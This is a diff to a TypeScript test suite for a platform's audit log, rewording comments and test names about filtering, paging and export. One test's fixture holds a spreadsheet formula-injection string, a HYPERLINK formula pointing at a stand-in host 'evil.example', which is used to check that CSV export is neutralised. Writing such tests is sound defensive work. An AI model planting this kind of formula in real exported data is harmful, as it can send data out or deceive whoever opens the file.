@@ -27,7 +27,7 @@ interface Page {
 const ofPeople = /^\/v1\/(session|person|invitations:)/;
 /** Those that cannot succeed here: `people-links.test.ts` and `transfer.test.ts` look for their entries. */
 const elsewhere = new Set(['removeMember', 'importProject']);
-/** Management operations that write nothing of their own: none may be added without a reason. A dry run shows what was sent to it. */
+/** Management operations without an entry; each needs a reason. `previewWrite` is a dry run, which changes nothing. */
 const silent = new Set(['previewWrite']);
 
 describe('test/journeys/audit', () => {
@@ -96,7 +96,7 @@ describe('test/journeys/audit', () => {
     };
   }
 
-  it('tells in a project who made it, and nothing of it in theirs', async () => {
+  it('tells in a new project who made it, and nothing of it in another project', async () => {
     const [, operatorKey] = platform.apiKey.split('_');
     const made = (await read('?action=project.created'))[0];
     expect(made).toMatchObject({
@@ -194,7 +194,7 @@ describe('test/journeys/audit', () => {
   });
 
   it('is read page by page, filtered, by full keys of the project only', async () => {
-    // What the service does by itself goes on meanwhile.
+    // Up to now only: the service adds entries by itself meanwhile.
     const until = `to=${new Date().toISOString()}`;
     const all = await read(`?pageSize=1000&${until}`);
     const paged: Entry[] = [];
@@ -215,7 +215,7 @@ describe('test/journeys/audit', () => {
     expect((await platform.call('GET', log)).status).toBe(404);
   });
 
-  it('leaves whole or of a time, as JSON or as a table that a spreadsheet only reads', async () => {
+  it('is exported whole or for a time, as JSON or as CSV in which a spreadsheet finds no formula', async () => {
     const hostile = '=HYPERLINK("https://evil.example?x,y")\nnext';
     const ids = Array.from({ length: 1_200 }, () => newId());
     const { projectId } = world.platform;
